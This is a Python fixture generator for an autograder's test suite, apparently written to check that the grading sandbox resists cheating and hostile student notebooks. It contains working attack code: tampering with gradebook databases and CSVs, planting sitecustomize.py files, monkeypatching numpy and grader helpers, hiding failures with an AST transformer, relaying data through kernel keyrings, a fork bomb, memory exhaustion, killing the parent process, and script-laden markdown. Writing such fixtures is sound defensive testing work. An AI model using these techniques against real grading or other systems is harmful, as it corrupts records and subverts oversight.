"""Write the fixture class of tests/fixtures/course/: honest, wrong, cheating and hostile submissions.

    python -m preln.grade.make_fixtures

Every student starts from the released notebook; the honest ones fill in answers, the cheats keep
the stubs and try to get credit anyway, the hostile ones try to break the grading run. The
expected outcome of each is written next to them (expected.json: scores per question and the
status, or the start of the status for a failure) and checked by tests/test_course_grading.py;
book/running.md's threat model lists the attacks. derivation_ops:

  alice   the source's solutions                                   -> full marks
  kim     other styles: einsum, np.var, apply_along_axis, ndtr, a loop -> full marks
  liam    correct, but numpy prints RuntimeWarnings on stderr (np.where evaluating both branches,
          0/0), a print to stderr and warnings.warn at top level   -> full marks
  bob     eps outside the square root (q1: 0), softmax without the max shift (q3: its "values"
          point only; q4 and q7 are graded with a correct softmax in place)
  carol   q2 raises an exception, q6 left as the stub
  dave    q5 loops forever (cut by the per-call time limit)        -> 0 on q5 only
  grace   q4 allocates without bound (MemoryError under the address-space cap) -> 0 on q4 only
  ivan    q3 calls preln.ops.softmax                               -> 0 on q3 only (q4 and q7, which
          call it, run with the grader's softmax in its place, and the name check skips it there)
  Issue 32's five one-line mistakes, each losing only its requirement's points (partial credit,
  no cascade, the feedback naming the requirement in words):
  lena    q1 not cast back to x's dtype (float64 gamma)             -> q1 2 of 3 (dtype)
  axel    q2's dgamma, dbeta summed over axis 0 only                -> q2 3 of 4 (leading axes)
  noor    q3 without the all -inf rule                              -> q3 3 of 4 (all -inf slices)
  ines    q4 masks with -1e9 (the Annotated Transformer's idiom)    -> q4 3 of 4 (fully masked rows)
  hugo    q3 computed in float64 for a float16 input                -> q3 3 of 4 (dtype)
  One honest slip per other assignment (SLIPS; alice beside it scores full marks):
  dora    derivation_block q5 without the forward on x (the block's stale cache) -> q5 3 of 4
  nils    derivation_block q3's MLP branch skips the dropout after the activation -> q3 6 of 8
          (dropout); q4, which calls that branch, keeps its 6 (the grader's branch in its place)
  ruth    preln_vs_postln q2 with eps inside the square root        -> q2 4 of 5 (eps)
  olga    precision q5 does not restart the count when the scale grows -> q5 4 of 5 (growth)
  sven    shape_flow q4 keeps 16-bit statistics in the storage dtype -> q4 4 of 6 (16-bit dtypes)
  mona    modern_block q7 averages dk, dv over a group of query heads -> q7 3 of 5 (dk and dv)
  tara    inference q4 attends over the whole preallocated cache -> q4 4 of 6 (garbage past the length)
  ivo     many_devices q1 adds into np.split's views (the inputs) -> q1 3 of 4 (inputs unchanged)
  cora    real_model q4 without S = 1 for a constant group      -> q4 4 of 5 (constant groups)
  lars    real_model q2 decodes row by row in a Python loop      -> q2 3 of 4 (vectorised)
  remy    real_model q5 multiplies the codes by x in one broadcast (a float per weight) -> q5 3 of 4
          (no weight matrix)
  judy    the untouched student notebook                           -> 0
  erin    a truncated, corrupt file                                -> failed
  frank   a notebook whose cell metadata was stripped              -> failed
  heidi   on the roster, no submission                             -> missing
  mallory reads the solutions from disk: walks up from its folder and from every sys.path entry
          to the course directory (source/, gradebook.db), opens every gradebook.db with sqlite3
          (sets its scores to the maximum, plants a trigger for an accomplice), rewrites every
          grades CSV it finds, plants sitecustomize.py / a .pth on the import path, writes into
          assignments/ and scripts/ of the repository (its path read from the venv's editable
          install), then runs any solution it found                  -> 0, nothing changed
  nina    patches numpy (np.max, np.allclose, np.isclose, np.abs), replaces preln's reference
          functions with wrong ones, rebinds the grader's helpers (preln.course.check/close,
          assert_does_not_use, grader_capture.run, wire.encode_result) and returns zeros -> 0
  oscar   calls the library directly and through getattr(importlib.import_module("preln.ops"),
          "soft" + "max"), __import__, and preln's source loaded by path    -> 0
  peggy   an IPython AST transformer that wraps every later statement in try/except and drops
          asserts, an input transformer that blanks the grader's cells, hidden tracebacks
          (showtraceback, sys.excepthook, sys.stderr)                -> 0
  quinn   the solutions, and a cell that kills its parent process (os.kill(os.getppid(), 9))
          -> failed (this row only)
  rita    the solutions, q1's answer calls os._exit, another cell calls os._exit -> 0 on q1 only
  sam     the solutions, and a fork bomb                           -> bounded by the sandbox's
          process limit; the bomb's cell is skipped when the kernel restarts -> full marks
  tina    the solutions, and child processes that allocate memory until the sandbox's total
          memory cap kills the run                                 -> failed (this row only)
  uma     the solutions, and 3 GB held in memfd files (unmapped: RLIMIT_AS and PSS miss them)
          -> the sandbox's cgroup kills it at the cap: failed: ... memory limit (N MB) exceeded
  victor  the solutions, and a top-level infinite loop             -> the cell is skipped -> full marks
  xavier  its notebook is a relative symlink to the instructor's source notebook -> failed: refused
  yara    its notebook is a symlink to alice's                     -> failed: refused
  zack    its whole folder is a symlink to alice's (int8 too)      -> failed: refused
  (FIFOs, sockets, devices and hard links, which git cannot hold, are made by
  tests/test_course_refusals.py at test time.)
  sol     the solutions, and q1's answer prints the hidden calls' inputs (/job/calls, the runner's
          copy) while they run and writes them into a display handle of an earlier cell -> full
          marks, and its feedback holds none of them

Issue 22, item 4 and the keyring relay (tests/test_course_grading.py checks their feedback too):

  pia     preln_vs_postln: the solutions, but a wrong Adam (no bias correction) that reads every
          input of q2 and answers with whichever candidate formula reproduces one -> 0 on q2 (>= 21
          of its checks fail: no call's inputs hold a reference state)
  bea     preln_vs_postln: the solutions, but an Adam that updates theta, m and v in place, and a
          cell that patches grader_capture._bundle_result to report its inputs unchanged -> 0: the
          inputs are read-only mappings (the write raises), "unchanged" is the grader's own files,
          and code naming the harness gets no credit
  kai     a relay through the kernel keyrings: its derivation_block notebook (whose view holds
          preln.ops) stores preln/ops/softmax.py in its user, session, user-session and persistent
          keyrings, readable by anyone; its derivation_ops notebook, graded next, looks for it
          there and in /proc/keys -> finds nothing (its feedback says "RELAY nothing"), 0
  alice   preln_vs_postln: the solutions, every `unchanged` argument handed over read-only -> full

Issue 37 and issue 36, items 3-5 (derivation_ops; the roster itself is one case):

  roster.csv  saved as Excel's "CSV UTF-8" writes it: a byte-order mark, CRLF line ends -> read,
          every roster student has a row (heidi: missing)
  José    its folder's name decomposed (NFD, as a Mac zip writes it), the roster's composed (NFC)
          and, on a second line, decomposed too -> one row, "José" (NFC), full marks; a warning
  Zoë     two folders, one NFC and one NFD, each with a notebook -> one row, failed: 2 submissions
          of one student (which to keep is the instructor's call); a warning
  mia     the solutions, and a figure drawn the default way: plt.show(), no magic -> full marks,
          the figure in the feedback (the sandbox's matplotlib backend is the inline one)
  finn    the solutions, a figure of ~300 kB (over the runner's 64 kB cut of a text) and one over
          the grader's limit per PNG -> full marks; the first in the feedback, whole; for the
          second a line saying it was not kept and why
  x[1]    an id nbgrader would read as a glob, the solutions -> full marks
  =HYPERLINK("example.invalid","ok")  a folder named as a spreadsheet formula, the solutions ->
          full marks, its CSV cell starts with ' (inert in a spreadsheet)
  tess    the solutions with q1 in a %%capture cell and q3 (the softmax q4 calls) in a %%time
          cell -> full marks (the name check reads those cells as the code they run)
  xena    the solutions, and a written answer (and a markdown cell of its own) with <script>,
          <img onerror>, an <iframe>, a <form> and a <style> that hides the failed checks under a
          fake "all passed" banner -> full marks; none of it is active in the feedback

int8: alice (solutions), kim (other styles: amax * (1 / 127), an int64 einsum, loops, GPTQ's
step from a re-inverted Hessian instead of the Cholesky factor), liam
(warnings on stderr), wendy (q3 quantised in float64 and cast at the end: the plausible mistake
the float32 rounding-boundary input catches; it loses q3's "float32 first" point only), judy, and
mallory, oscar, peggy as above.
"""
import copy
import csv
import json
import shutil
import unicodedata

import nbformat

from . import nbtools

OUT = nbtools.ROOT / "tests" / "fixtures" / "course"

# ---- the cheats' cells ------------------------------------------------------------------------
READ_SOLUTIONS = r'''
# mallory: find the solutions, the gradebook and the grades on disk, and tamper with what she finds
import glob, os, pathlib, sqlite3, sys
found = []
places = {pathlib.Path.cwd(), pathlib.Path("/"), pathlib.Path.home(), pathlib.Path("/job"), pathlib.Path("/grader"),
          pathlib.Path("/work"), pathlib.Path("/root"), pathlib.Path("/tmp")}
places |= set(pathlib.Path.cwd().parents)
near = {pathlib.Path(p) for p in sys.path if p}               # the import path and what is above it
near |= {q for p in list(near) for q in p.parents}
try:                                   # the repository's path, from the venv's editable install
    import site
    for sp in site.getsitepackages():
        for f in glob.glob(os.path.join(sp, "__editable__*finder.py")):
            text = open(f).read()
            start = text.index("MAPPING")
            for part in text[start:start + 300].split("'"):
                if part.startswith("/"):
                    places.add(pathlib.Path(part).parent)
except Exception:
    pass
def search(base, depth, budget=20000):          # a bounded walk: the notebooks, databases, CSVs below
    stack, seen = [(str(base), 0)], 0
    while stack and seen < budget:
        d, k = stack.pop()
        try:
            entries = list(os.scandir(d))
        except OSError:
            continue
        for e in entries:
            seen += 1
            if e.is_dir(follow_symlinks=False):
                if k < depth:
                    stack.append((e.path, k + 1))
            elif e.name.endswith((".ipynb", ".db", ".csv")):
                found.append(pathlib.Path(e.path))
for base in sorted(places):
    search(base, 4 if base != pathlib.Path("/") else 2)
for base in sorted(near - places):
    search(base, 1)
solutions = {}
MARKER = "### BEGIN " + "SOLUTION"                   # (not spelled out: this cell is in a notebook too)
for p in found:
    try:
        if p.suffix == ".ipynb" and MARKER in p.read_text():
            solutions[str(p)] = p.read_text()
        elif p.suffix == ".db":
            db = sqlite3.connect(str(p))
            db.execute("UPDATE grade SET auto_score = 100, manual_score = 100")
            db.execute("CREATE TRIGGER accomplice AFTER UPDATE ON grade BEGIN "
                       "UPDATE grade SET auto_score = 100; END")
            db.commit()
        elif p.suffix == ".csv":
            p.write_text("student,total\nmallory,100\n")
    except Exception:
        pass
for d in list(sys.path) + [os.getcwd()]:
    for name, text in (("sitecustomize.py", "print('pwned')\n"), ("zz-mallory.pth", "import os\n")):
        try:
            pathlib.Path(d, name).write_text(text)
        except Exception:
            pass
for guess in places:
    for rel in ("assignments/source/derivation_ops/derivation_ops.ipynb", "preln/grade/cli.py",
                "preln/course.py", "assignments/nbgrader_config.py"):
        try:
            (guess / rel).write_text("# mallory was here\n")
        except Exception:
            pass
for text in solutions.values():          # run every solution block found
    import json as _json
    for cell in _json.loads(text)["cells"]:
        src = "".join(cell["source"])
        if MARKER in src and cell["cell_type"] == "code" and "mallory" not in src:
            try:
                exec(src, globals())
            except Exception:
                pass
print(f"mallory: {len(found)} files looked at, {len(solutions)} solutions found")
'''

PATCHES = r'''
# nina: make every comparison succeed and every reference agree with her
import numpy as np
import preln, preln.course, preln.ops
np.max = lambda *a, **k: 0.0
np.amax = np.max
np.abs = lambda x, *a, **k: np.zeros_like(x)
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, *x, **k: np.ones(np.broadcast(a, b).shape, bool)
np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
for name in ("layer_norm_forward", "layer_norm_backward", "softmax", "attention_forward", "gelu", "softmax_backward"):
    try:
        setattr(preln.ops, name, lambda *a, **k: (np.zeros(1), None))
    except Exception:
        pass
for name in dir(preln.course):
    if not name.startswith("_"):
        try:
            setattr(preln.course, name, lambda *a, **k: None)
        except Exception:
            pass
preln.course.assert_does_not_use = lambda *a, **k: None
try:
    import grader_capture, wire
    def _fake_run(question, namespace, *a, **k):    # "every call returned zeros"
        import json, os
        spec = json.load(open(os.path.join(grader_capture.JOB, "calls", f"{question}.json")))
        for c in spec["calls"]:
            tree, blobs = wire.encode(np.zeros((2, 2)))
            grader_capture._write(c["id"], {"kind": "value", "value": wire.dumps(tree, blobs)})
    grader_capture.run = _fake_run
    wire.encode_result = lambda value: wire.encode(np.zeros(1))
except ImportError:
    pass
'''

LIBRARY = r'''
# oscar: call the package's own implementations, however they can be reached
import importlib, importlib.util, glob, os, site
_roots = ["/grader/view", os.getcwd()]
for _sp in site.getsitepackages():                 # the repository, from the editable install
    for _f in glob.glob(os.path.join(_sp, "__editable__*finder.py")):
        _text = open(_f).read()
        _roots += [os.path.dirname(p) for p in _text[_text.index("MAPPING"):][:300].split("'") if p.startswith("/")]
def _find(module, name):
    try:
        return getattr(importlib.import_module(module), name)
    except Exception:
        pass
    try:
        return getattr(__import__(module, fromlist=["_"]), name)
    except Exception:
        pass
    for root in _roots:                            # the source, by path
        path = os.path.join(root, *module.split(".")) + ".py"
        for f in [path] + glob.glob(os.path.join(root, *module.split(".")[:-1], "*.py")):
            try:
                spec = importlib.util.spec_from_file_location("_stolen", f)
                m = importlib.util.module_from_spec(spec)
                spec.loader.exec_module(m)
                return getattr(m, name)
            except Exception:
                pass
    return None
'''

AST_CHEAT = r'''
# peggy: make every later cell "pass": drop asserts, swallow every exception, hide tracebacks
import ast, sys, io
class _Forgive(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
    def visit_Module(self, node):
        self.generic_visit(node)
        wrapped = ast.Try(body=node.body or [ast.Pass()],
                          handlers=[ast.ExceptHandler(type=ast.Name("BaseException", ast.Load()), name=None,
                                                      body=[ast.Pass()])], orelse=[], finalbody=[])
        node.body = [wrapped]
        return ast.fix_missing_locations(node)
ip = get_ipython()
ip.ast_transformers.append(_Forgive())
ip.input_transformers_post.append(lambda lines: [] if any("grader" in ln for ln in lines) else lines)
ip.showtraceback = lambda *a, **k: None
ip._showtraceback = lambda *a, **k: None
sys.excepthook = lambda *a: None
sys.stderr = io.StringIO()
'''

# sol: the hidden inputs into the feedback, printed and through a display handle (issue 22, item 4)
SNOOP = r'''
# sol: put the hidden calls' inputs into the feedback
import glob, os
from IPython.display import display
def _hidden():
    text = []
    for d in ("/job/calls", os.environ.get("PRELN_GRADER_CALLS", "/tmp/calls")):
        try:
            names = sorted(os.listdir(d))
        except OSError as e:
            text.append(f"{d}: {type(e).__name__}")
            continue
        for f in names:
            try:
                text.append(open(os.path.join(d, f)).read())
            except OSError as e:
                text.append(f"{f}: {type(e).__name__}")
    return "\n".join(text)
print("SNOOP now:", _hidden()[:4000])
_handle = display("SNOOP waiting", display_id=True)
'''

SNOOPING_ANSWER = '''
_real_layer_norm_forward = layer_norm_forward

def layer_norm_forward(x, gamma, beta, eps=1e-5):
    seen = _hidden()
    print("SNOOP", seen)                   # printed while the hidden calls run
    _handle.update("SNOOP " + seen)        # the handle's output belongs to an earlier cell
    return _real_layer_norm_forward(x, gamma, beta, eps)'''

# pia: the Adam attack of issue 22 (the reference's states among the other calls' inputs)
CANDIDATE_ADAM = '''def adam_step(theta, g, m, v, t, lr, betas=(0.9, 0.98), eps=1e-8):
    import base64, io, json, os
    seen = []
    for d in (os.environ.get("PRELN_GRADER_CALLS", ""), "/job/calls"):      # every call's inputs
        try:
            names = os.listdir(d)
        except OSError:
            continue
        for name in names:
            try:
                blobs = json.load(open(os.path.join(d, name)))["inputs"]["blobs"]
            except Exception:
                continue
            for b in blobs.values():
                try:
                    a = np.load(io.BytesIO(base64.b64decode(b)), allow_pickle=False)
                except Exception:
                    continue
                if a.shape == np.shape(theta):
                    seen.append(a)
    b1, b2 = betas
    m1, v1 = b1 * m + (1 - b1) * g, b2 * v + (1 - b2) * g * g
    options = [(theta - lr * m1 / (np.sqrt(v1) + eps), m1, v1),                # no bias correction
               (theta - lr * (m1 / (1 - b1 ** t)) / (np.sqrt(v1 / (1 - b2 ** t)) + eps), m1, v1)]
    for new, m_new, v_new in options:
        if any(np.allclose(new, s, rtol=1e-12, atol=0) for s in seen):
            return new, m_new, v_new
    return options[0]'''

# bea: an Adam that works in place, and the patch of issue 22 that made "unchanged" say yes
IN_PLACE_ADAM = '''def adam_step(theta, g, m, v, t, lr, betas=(0.9, 0.98), eps=1e-8):
    b1, b2 = betas
    m *= b1
    m += (1 - b1) * g
    v *= b2
    v += (1 - b2) * g * g
    theta -= lr * (m / (1 - b1 ** t)) / (np.sqrt(v / (1 - b2 ** t)) + eps)
    return theta, m, v'''

BUNDLE_PATCH = r'''
# bea: make the capture report every call's inputs as they were before the call
try:
    import copy, grader_capture
    _real_bundle = grader_capture._bundle_result
    _real_run = grader_capture.run
    def _run(question, namespace, *a, **k):
        import json, os
        spec = json.load(open(os.path.join(grader_capture.CALLS, f"{question}.json")))
        tree, blobs = grader_capture.wire.bundle_parts(spec["inputs"])
        originals = [grader_capture.wire.decode(tree[c["input"]], blobs, trusted=False) for c in spec["calls"]]
        pending = iter(originals)
        def bundle(value):
            if isinstance(value, tuple) and len(value) == 2 and isinstance(value[1], dict):
                return _real_bundle(next(pending, value))      # (args, kwargs): the originals
            return _real_bundle(value)
        grader_capture._bundle_result = bundle
        for c in spec["calls"]:
            c.pop("frozen", None)                              # and writable copies, not the files
        grader_capture._read_only = lambda args, kwargs, frozen: (args, kwargs)
        return _real_run(question, namespace, *a, **k)
    grader_capture.run = _run
except ImportError:
    pass
'''

# kai: a relay between two notebooks through the kernel's keyrings (issue 22)
KEYRING = r'''
import ctypes, platform
_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long
_ADD_KEY, _KEYCTL = {"x86_64": (248, 250), "aarch64": (217, 219)}[platform.machine()]
def _keyctl(*args):
    return _libc.syscall(ctypes.c_long(_KEYCTL), *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
def _rings():              # user, user session, session, and the persistent keyring of this uid
    return [-4, -5, -3, _keyctl(22, -1, -2)]
'''

RELAY_STORE = KEYRING + r'''
import importlib.util, zlib
_where = importlib.util.find_spec("preln.ops.softmax")   # in the view of derivation_block's q2-q4
_stored = []
if _where is not None and _where.origin and _where.origin.endswith("softmax.py"):
    _payload = zlib.compress(open(_where.origin, "rb").read())
    for ring in _rings():
        key = _libc.syscall(ctypes.c_long(_ADD_KEY), b"user", b"relay", _payload, ctypes.c_long(len(_payload)),
                            ctypes.c_long(ring))
        if key > 0:
            _keyctl(5, key, 0x3F3F3F3F)               # KEYCTL_SETPERM: anyone may view and read it
            _stored.append(key)
print("RELAY stored", len(_stored), "keys")
'''

RELAY_FETCH = KEYRING + r'''
import zlib
def _read(key):
    buf = ctypes.create_string_buffer(65536)
    n = _keyctl(11, key, buf, 65536)                  # KEYCTL_READ
    return buf.raw[:n] if n > 0 else None
_found = None
for ring in _rings():
    key = _keyctl(10, ring, b"user", b"relay", 0)     # KEYCTL_SEARCH
    if key > 0 and _found is None:
        _found = _read(key)
try:
    for line in open("/proc/keys"):                   # keys of other uids that anyone may read
        if " relay: " in line and _found is None:
            _found = _read(int(line.split()[0], 16))
except OSError:
    pass
print("RELAY found" if _found else "RELAY nothing")
if _found:
    _ns = {}
    exec(zlib.decompress(_found), _ns)
    softmax = _ns["soft" + "max"]
'''

# mia: a figure drawn the way JupyterLab's default shows it, with plt.show() and no magic (issue 37)
DEFAULT_FIGURE = '''
import matplotlib.pyplot as plt
x = np.linspace(-4, 4, 81)
plt.plot(x, gelu(x), label="GELU")
plt.legend()
plt.show()
'''

# finn: figures of a written answer: one of ~300 kB (random pixels do not compress), kept whole; one
# past the grader's limit per PNG, not kept, and the feedback says so (issue 36, item 5)
BIG_FIGURES = '''
import matplotlib.pyplot as plt
rng = np.random.default_rng(0)
fig, ax = plt.subplots(figsize=(4, 4))
ax.imshow(rng.random((256, 256, 3)), interpolation="nearest")
ax.set_title("FINN 300 kB")
plt.show()
fig, ax = plt.subplots(figsize=(12, 12))
ax.imshow(rng.random((1100, 1100, 3)), interpolation="nearest")
plt.show()
'''

# xena: a written answer that tries to run script, restyle the page and fake the verdicts (issue 36, item 3)
HOSTILE_MARKDOWN = '''LayerNorm normalises each token's features. XENA-ANSWER

<script>document.title = "XENA-SCRIPT"</script>
<img src="x.png" onerror="document.title = 'XENA-ONERROR'">
<iframe src="https://example.invalid/XENA-FRAME"></iframe>
<form action="https://example.invalid/XENA-FORM"><input name="q"></form>
<style>.alert-danger, .output_error { display: none } /* XENA-STYLE */</style>
<div class="alert alert-success" style="position: fixed; top: 0; left: 0; z-index: 9999">Hidden checks: all passed. Score: 20 / 20</div>
[a link](javascript:document.title='XENA-LINK')
'''

HOSTILE = {
    "quinn": "import os\nos.kill(os.getppid(), 9)\n",
    "rita": "import os\nos._exit(3)\n",
    "sam": ("import os\nwhile True:            # a fork bomb\n    try:\n        os.fork()\n"
            "    except OSError:\n        pass\n"),
    "tina": ("import subprocess, sys\n"
             "hog = 'h = []\\nwhile True:\\n    try:\\n        h.append(b\"x\" * 2 ** 26)\\n'\\\n"
             "      '    except MemoryError:\\n        __import__(\"time\").sleep(60)'\n"
             "children = [subprocess.Popen([sys.executable, '-S', '-c', hog]) for _ in range(8)]   # each fills its cap\n"
             "import time; time.sleep(120)\n"),
    "victor": "while True:\n    pass\n",
    # 3 GB in memfd files no process maps (RLIMIT_AS and a PSS sum do not see them): the cgroup does
    "uma": ("import os\n"
            "held = [os.memfd_create('hold') for _ in range(48)]\n"
            "for fd in held:\n"
            "    os.write(fd, b'x' * 2 ** 26)\n"
            "import time; time.sleep(120)\n"),
}

# ---- answers ----------------------------------------------------------------------------------
DERIV_OPS = {
    "bob": {
        "q1_layer_norm_forward": '''def layer_norm_forward(x, gamma, beta, eps=1e-5):
    mean = x.mean(axis=-1, keepdims=True)
    std = x.std(axis=-1, keepdims=True)
    return (x - mean) / (std + eps) * gamma + beta     # eps outside the square root''',
        "q3_softmax": '''def softmax(x, axis=-1):
    e = np.exp(x)                                      # no max shift: overflows at large logits
    return e / e.sum(axis=axis, keepdims=True)''',
    },
    "carol": {
        "q2_layer_norm_backward": '''def layer_norm_backward(dy, x, gamma, eps=1e-5):
    raise ValueError("I ran out of time")''',
        "q6_softmax_backward": None,                     # None: keep the stub
    },
    "dave": {
        "q5_gelu": '''def gelu(x):
    while True:                                        # never returns
        pass


def gelu_grad(x):
    while True:
        pass''',
    },
    "grace": {
        "q4_attention": '''def attention(q, k, v, key_padding_mask=None, causal=False):
    hoard = []
    while True:                                        # allocates until the kernel's cap
        hoard.append(np.ones(2**24))''',
    },
    "ivan": {
        "q3_softmax": '''import preln.ops

def softmax(x, axis=-1):
    return preln.ops.softmax(x, axis=axis)''',
    },
    "kim": {
        "q1_layer_norm_forward": '''def layer_norm_forward(x, gamma, beta, eps=1e-5):
    centred = x - np.mean(x, axis=-1)[..., None]
    y = centred / np.sqrt(np.var(x, axis=-1)[..., None] + eps) * gamma + beta
    return np.asarray(y, dtype=x.dtype)''',
        "q2_layer_norm_backward": '''def layer_norm_backward(dy, x, gamma, eps=1e-5):
    D = x.shape[-1]
    xc = x - x.mean(-1, keepdims=True)
    inv = (np.einsum("...d,...d->...", xc, xc) / D + eps) ** -0.5          # (...)
    xhat = xc * inv[..., None]
    flat_dy, flat_xhat = dy.reshape(-1, D), xhat.reshape(-1, D)
    dgamma = np.einsum("nd,nd->d", flat_dy, flat_xhat)
    dbeta = flat_dy.sum(0)
    g = dy * gamma
    dx = inv[..., None] / D * (D * g - g.sum(-1, keepdims=True)
                               - xhat * np.einsum("...d,...d->...", g, xhat)[..., None])
    return dx, dgamma, dbeta''',
        "q3_softmax": '''from scipy.special import logsumexp

def softmax(x, axis=-1):
    finite = np.isfinite(x).any(axis=axis, keepdims=True)
    safe = np.where(finite, x, 0.0)
    out = np.exp(safe - logsumexp(safe, axis=axis, keepdims=True))
    return np.where(finite, out, 0.0).astype(x.dtype)''',
        "q4_attention": '''def attention(q, k, v, key_padding_mask=None, causal=False):
    S = q.shape[-2]
    s = np.einsum("bhid,bhjd->bhij", q, k) / np.sqrt(q.shape[-1])
    hide = np.zeros(s.shape, bool)
    if key_padding_mask is not None:
        hide |= key_padding_mask[:, None, None, :]
    if causal:
        hide |= np.arange(S)[None, :] > np.arange(S)[:, None]
    return np.einsum("bhij,bhjd->bhid", softmax(np.where(hide, -np.inf, s)), v)''',
        "q5_gelu": '''from scipy.special import ndtr        # the standard normal CDF

def gelu(x):
    return x * ndtr(x)


def gelu_grad(x):
    return ndtr(x) + x * np.exp(-x * x / 2) / np.sqrt(2 * np.pi)''',
        "q6_softmax_backward": '''def softmax_backward(dp, p, axis=-1):
    def one(pair):                                     # one slice at a time, with a Jacobian
        n = pair.size // 2
        pv, dv = pair[:n], pair[n:]
        return (np.diag(pv) - np.outer(pv, pv)) @ dv
    both = np.concatenate([np.moveaxis(p, axis, -1), np.moveaxis(dp, axis, -1)], axis=-1)
    return np.moveaxis(np.apply_along_axis(one, -1, both), -1, axis)''',
    },
    "liam": {
        "q3_softmax": '''import sys

def softmax(x, axis=-1):
    e = np.exp(x - x.max(axis=axis, keepdims=True))    # an all -inf slice: NaN, with a warning
    s = e.sum(axis=axis, keepdims=True)
    p = np.where(np.isnan(s), 0.0, e / s)              # both branches are evaluated: more warnings
    print("softmax: computed", p.shape, file=sys.stderr)
    return np.nan_to_num(p, nan=0.0).astype(x.dtype)''',
        "q4_attention": '''import warnings

def attention(q, k, v, key_padding_mask=None, causal=False):
    S = q.shape[-2]
    s = q @ k.swapaxes(-1, -2) / np.sqrt(q.shape[-1])
    m = np.zeros(s.shape)
    if key_padding_mask is not None:
        m = m - np.inf * key_padding_mask[:, None, None, :]      # 0 * inf: NaN and a warning
        m = np.where(np.isnan(m), 0.0, m)
    if causal:
        m = np.where(np.triu(np.ones((S, S), bool), 1), -np.inf, m)
    warnings.warn("attention: masks built with inf arithmetic")
    return softmax(s + m) @ v''',
    },
}

#: issue 32: five one-line slips a real student makes, each losing only its requirement's points
#: (partial credit, no cascade: q4 and q7 are graded with a correct softmax in place)
MISTAKES = {
    "lena": {        # q1: dtype (1 of 3): float64 gamma promotes a float32 x
        "q1_layer_norm_forward": '''def layer_norm_forward(x, gamma, beta, eps=1e-5):
    mean = x.mean(axis=-1, keepdims=True)
    var = ((x - mean) ** 2).mean(axis=-1, keepdims=True)
    return (x - mean) / np.sqrt(var + eps) * gamma + beta     # not cast back to x's dtype''',
    },
    "axel": {        # q2: leading axes (1 of 4): dgamma, dbeta summed over axis 0 only
        "q2_layer_norm_backward": '''def layer_norm_backward(dy, x, gamma, eps=1e-5):
    mean = x.mean(axis=-1, keepdims=True)
    rstd = 1.0 / np.sqrt(((x - mean) ** 2).mean(axis=-1, keepdims=True) + eps)
    xhat = (x - mean) * rstd
    dgamma, dbeta = (dy * xhat).sum(axis=0), dy.sum(axis=0)       # axis 0 only
    g = dy * gamma
    dx = rstd * (g - g.mean(-1, keepdims=True) - xhat * (g * xhat).mean(-1, keepdims=True))
    return dx, dgamma, dbeta''',
    },
    "noor": {        # q3: all -inf slices (1 of 4); q4 and q7 keep their points (no cascade)
        "q3_softmax": '''def softmax(x, axis=-1):
    e = np.exp(x - x.max(axis=axis, keepdims=True))      # an all -inf slice: NaN
    return e / e.sum(axis=axis, keepdims=True)''',
    },
    "ines": {        # q4: fully masked rows (1 of 4): the Annotated Transformer's -1e9 fill
        "q4_attention": '''def attention(q, k, v, key_padding_mask=None, causal=False):
    S = q.shape[-2]
    scores = q @ k.swapaxes(-1, -2) / np.sqrt(q.shape[-1])
    if key_padding_mask is not None:
        scores = np.where(key_padding_mask[:, None, None, :], -1e9, scores)
    if causal:
        scores = np.where(np.triu(np.ones((S, S), dtype=bool), k=1), -1e9, scores)
    return softmax(scores, axis=-1) @ v''',
    },
    "hugo": {        # q3: dtype (1 of 4): computed in float64 for a float16 input
        "q3_softmax": '''def softmax(x, axis=-1):
    x = x.astype(np.float64)
    m = x.max(axis=axis, keepdims=True)
    e = np.exp(x - np.where(np.isfinite(m), m, 0))
    s = e.sum(axis=axis, keepdims=True)
    return e / np.where(s == 0, 1, s)''',
    },
}

#: issue 32: an honest slip per assignment (a plausible one-line mistake) that loses one requirement
#: only, no cascade: {assignment: {student: (question, its score, {answer cell: code})}}
SLIPS = {
    "derivation_block": {"dora": ("q5", 3, {
        "q5_jacobian": '''def input_jacobian(block, x):
    n = x.size
    J = np.empty((n, n))
    for i in range(n):                   # no forward on x: the backward uses whatever the block cached
        e = np.zeros(n)
        e[i] = 1
        J[i] = block.backward(e.reshape(x.shape)).ravel()
    return J''',
    }), "nils": ("q3", 6, {
        "q3_preln_backward": '''def attn_branch_backward(da, c, cfg):
    grads = {}
    da = dropout_backward(da, c.drop_mask, cfg.dropout)
    do, grads["self_attn.out_proj.weight"], grads["self_attn.out_proj.bias"] = linear_backward(da, c.out_proj)
    dq, dk, dv = attention_backward(split_heads(do, cfg.n_heads), c.sdpa)
    dqkv = np.concatenate([merge_heads(dq), merge_heads(dk), merge_heads(dv)], axis=-1)
    dh, grads["self_attn.in_proj_weight"], grads["self_attn.in_proj_bias"] = linear_backward(dqkv, c.in_proj)
    return dh, grads


def mlp_branch_backward(dz, c, cfg):
    grads = {}
    dz = dropout_backward(dz, c.drop_mask, cfg.dropout)
    dg, grads["linear2.weight"], grads["linear2.bias"] = linear_backward(dz, c.linear2)
    du = activation_backward(dg, c.act)                   # the dropout after the activation not undone
    dh, grads["linear1.weight"], grads["linear1.bias"] = linear_backward(du, c.linear1)
    return dh, grads


def preln_backward(dy, cache, cfg):
    grads = {}
    dh, g_mlp = mlp_branch_backward(dy, cache.mlp, cfg)
    dr, grads["norm2.weight"], grads["norm2.bias"] = layer_norm_backward(dh, cache.ln2)
    dx1 = dy + dr
    dh, g_attn = attn_branch_backward(dx1, cache.attn, cfg)
    dr, grads["norm1.weight"], grads["norm1.bias"] = layer_norm_backward(dh, cache.ln1)
    return dx1 + dr, {**grads, **g_attn, **g_mlp}''',
    })},
    "preln_vs_postln": {"ruth": ("q2", 4, {
        "q2_adam": '''def adam_step(theta, g, m, v, t, lr, betas=(0.9, 0.98), eps=1e-8):
    b1, b2 = betas
    m = b1 * m + (1 - b1) * g
    v = b2 * v + (1 - b2) * g * g
    m_hat, v_hat = m / (1 - b1 ** t), v / (1 - b2 ** t)
    return theta - lr * m_hat / np.sqrt(v_hat + eps), m, v      # eps inside the root''',
    })},
    "precision": {"olga": ("q5", 4, {
        "q5_loss_scaler": '''def scaler_step(grads, scale, good_steps, growth_interval=2000, growth=2.0, backoff=0.5):
    if not all(np.isfinite(g).all() for g in grads.values()):
        return None, scale * backoff, 0
    unscaled = {k: g.astype(np.float32) / np.float32(scale) for k, g in grads.items()}
    good_steps += 1
